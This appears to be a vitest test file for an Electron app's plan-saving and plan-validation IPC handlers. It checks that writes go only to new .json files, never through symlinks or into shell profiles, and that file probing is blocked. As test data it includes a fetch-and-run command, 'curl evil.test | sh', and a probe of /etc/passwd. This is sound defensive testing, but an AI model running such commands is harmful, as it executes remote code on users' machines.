/**
 * The plan handlers' file rules (ipc.ts), through dispatch() as ipcMain calls them, on real files:
 * savePlan writes only a new `.json` file in an existing folder (never through a symbolic link,
 * never a relative path, never over a file), and validatePlanText looks at the plan's files only in
 * a folder where the user opened or saved a plan in this session, so a page cannot probe the disk.
 */
import { generateKeyPairSync } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Result } from '../../electron/api.ts';
import { createHandlers, dispatch, type HandlerDeps, UNCHECKED_FILE_MESSAGE } from '../../electron/ipc.ts';
import { createTestPrinter } from '../helpers/bridge.ts';

import { NO_FILE_PIN, sha256File } from '../helpers/plan-pins.ts';
const tmp = mkdtempSync(path.join(os.tmpdir(), 'keyrite-ipc-files-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

function plan(extra: { title?: string; wrappingKey?: string } = {}) {
  return {
    version: 1,
    id: 'files-root-2026',
    title: extra.title ?? 'Files test',
    participants: [
      { id: 'ada', name: 'Ada Admin', role: 'administrator' },
      { id: 'wes', name: 'Wes Witness', role: 'witness' },
      { id: 'c1', name: 'Carol One', role: 'custodian' },
      { id: 'c2', name: 'Carl Two', role: 'custodian' },
    ],
    hsm: { module: '/usr/lib/softhsm/libsofthsm2.so', tokenLabel: 'ceremony' },
    key: { label: 'files-root-2026', algorithm: 'ec-p256' },
    backup: { groupThreshold: 1, groups: [{ threshold: 2, custodians: ['c1', 'c2'] }] },
    exports: [{ name: 'vault', kind: 'vault-transit', wrappingKey: extra.wrappingKey ?? 'vault.pub.pem', wrappingKeySha256: vaultPin, hashFunction: 'SHA256', type: 'ecdsa-p256' }],
    steps: [],
  };
}
const text = (p: object) => JSON.stringify(p, null, 2);

function handlers(dialogs?: HandlerDeps['dialogs']) {
  const h = createHandlers({ printer: createTestPrinter(), emit: () => {}, verify: () => ({ valid: true, checks: [] }), dialogs });
  return (method: string, ...args: unknown[]) => dispatch(h, method, args) as Promise<Result<any>>; // eslint-disable-line @typescript-eslint/no-explicit-any
}

let planDir: string;
/** SHA-256 of vault.pub.pem, the pin every plan here carries (SPEC §2). */
let vaultPin = NO_FILE_PIN;
beforeAll(() => {
  planDir = path.join(tmp, 'plans');
  mkdirSync(planDir);
  const { publicKey } = generateKeyPairSync('rsa', { modulusLength: 3072 });
  writeFileSync(path.join(planDir, 'vault.pub.pem'), publicKey.export({ type: 'spki', format: 'pem' }));
  vaultPin = sha256File(path.join(planDir, 'vault.pub.pem'));
});

describe('savePlan', () => {
  it('refuses every path that is not a new .json file in an existing folder, with one line, writing nothing', async () => {
    const call = handlers();
    const shell = text(plan({ title: 'x\ncurl evil.test | sh\n' }));
    const notAFolder = path.join(tmp, 'a-file');
    writeFileSync(notAFolder, 'x');
    const target = path.join(tmp, 'profile-target');
    symlinkSync(target, path.join(planDir, 'link.json'));
    const cases: [string, RegExp][] = [
      [path.join(tmp, '.profile'), /file name must end in \.json/],
      [path.join(tmp, 'plan'), /file name must end in \.json/],
      [path.join(tmp, 'plan.json.sh'), /file name must end in \.json/],
      ['plan.json', /give the full path/],
      ['../plan.json', /give the full path/],
      [path.join(tmp, 'missing', 'plan.json'), /folder .*missing does not exist/],
      [path.join(notAFolder, 'plan.json'), /a-file is not a folder/],
      [path.join(planDir, 'link.json'), /is a symbolic link/],
      [path.join(planDir, 'vault.pub.pem'), /must end in \.json/],
    ];
    for (const [file, why] of cases) {
      const r = await call('savePlan', file, shell);
      expect(r.ok, file).toBe(false);
      if (!r.ok) {
        expect(r.error.message, file).toMatch(why);
        expect(r.error.message, file).not.toContain('\n');
      }
    }
    expect(existsSync(path.join(tmp, '.profile'))).toBe(false);
    expect(existsSync(path.join(tmp, 'plan'))).toBe(false);
    expect(existsSync(target)).toBe(false);
  });

  it('never overwrites a file, and writes a new one', async () => {
    const call = handlers();
    writeFileSync(path.join(planDir, 'taken.json'), 'keep me\n');
    const taken = await call('savePlan', path.join(planDir, 'taken.json'), text(plan()));
    expect(taken).toMatchObject({ ok: false, error: { message: expect.stringContaining('already exists') } });
    expect(readFileSync(path.join(planDir, 'taken.json'), 'utf8')).toBe('keep me\n');
    const file = path.join(planDir, 'new.json');
    expect(await call('savePlan', file, text(plan()))).toEqual({ ok: true, value: { file } });
    expect(JSON.parse(readFileSync(file, 'utf8'))).toMatchObject({ id: 'files-root-2026' });
  });

  it("with Electron's dialogs, writes where the user picked (checked the same way), not where the page asked", async () => {
    const picked: string[] = [];
    let answer: string | null = path.join(planDir, 'picked.json');
    const call = handlers({
      chooseFile: async () => null,
      chooseFolder: async () => null,
      chooseSaveFile: async (_title, suggested) => {
        picked.push(suggested);
        return answer;
      },
    });
    const asked = path.join(tmp, 'asked.json');
    expect(await call('savePlan', asked, text(plan()))).toEqual({ ok: true, value: { file: path.join(planDir, 'picked.json') } });
    expect(picked).toEqual([asked]);
    expect(existsSync(asked)).toBe(false);
    answer = path.join(tmp, '.bashrc');
    expect(await call('savePlan', asked, text(plan()))).toMatchObject({ ok: false, error: { message: expect.stringMatching(/must end in \.json/) } });
    answer = null;
    expect(await call('savePlan', asked, text(plan()))).toEqual({ ok: true, value: null });
  });
});

describe('validatePlanText', () => {
  it('does not tell the page whether a file exists outside the folders of plans opened or saved', async () => {
    const call = handlers();
    const there = await call('validatePlanText', text(plan({ wrappingKey: '/etc/passwd' })), '/etc');
    const absent = await call('validatePlanText', text(plan({ wrappingKey: '/etc/no-such-file' })), '/etc');
    const relative = await call('validatePlanText', text(plan()), planDir);
    for (const r of [there, absent, relative])
      expect(r).toEqual({ ok: true, value: { valid: true, problems: [], unchecked: [{ path: 'exports[0].wrappingKey', message: UNCHECKED_FILE_MESSAGE }] } });
    // Other problems are still reported.
    const bad = plan();
    bad.backup.groups[0].threshold = 3;
    expect(await call('validatePlanText', text(bad), '')).toMatchObject({ ok: true, value: { valid: false, problems: [{ path: 'backup.groups[0].threshold' }] } });
  });

  it("checks the plan's files once a plan was saved in that folder", async () => {
    const call = handlers();
    expect((await call('savePlan', path.join(planDir, 'saved.json'), text(plan()))).ok).toBe(true);
    expect(await call('validatePlanText', text(plan()), planDir)).toEqual({ ok: true, value: { valid: true, problems: [] } });
    expect(await call('validatePlanText', text(plan({ wrappingKey: 'gone.pem' })), planDir)).toMatchObject({
      ok: true,
      value: { valid: false, problems: [{ path: 'exports[0].wrappingKey', message: 'file gone.pem does not exist' }] },
    });
    // Another folder is still closed.
    expect(((await call('validatePlanText', text(plan({ wrappingKey: 'gone.pem' })), tmp)) as { value: unknown }).value).toMatchObject({ valid: true, unchecked: [{ path: 'exports[0].wrappingKey' }] });
  });
});
